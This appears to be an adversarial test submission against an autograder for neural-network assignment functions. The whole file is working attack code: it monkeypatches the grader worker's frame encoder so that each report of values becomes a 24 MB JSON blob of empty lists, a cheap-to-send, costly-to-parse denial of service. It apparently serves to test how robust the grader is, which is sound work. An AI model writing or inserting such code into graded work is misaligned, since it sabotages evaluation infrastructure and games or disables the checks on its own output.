# attack: patch the child's own encoder so every report of values carries a huge JSON header of empty lists (cheap to send, costly to parse)
# spoils: initialize_parameters, initialize_parameters_deep, linear_forward, linear_activation_forward, L_model_forward, compute_cost, linear_backward, linear_activation_backward, L_model_backward, update_parameters
# %%
import json, struct, sys
runtime = sys.modules.get("graders.worker.runtime")
HEAD = struct.Struct("<IQ")
if runtime is not None:
    original = runtime.encode_frame
    def bloated(header, values=None, payload=None):
        if values:  # a frame of values: 24 MB of "[]," that would parse to millions of lists
            text = b'{"v":[' + b"[]," * (8 * 1024 * 1024) + b'[]]}'
            return HEAD.pack(len(text), 0) + text
        return original(header, values, payload) if payload is None else original(header, payload=payload)
    runtime.encode_frame = bloated
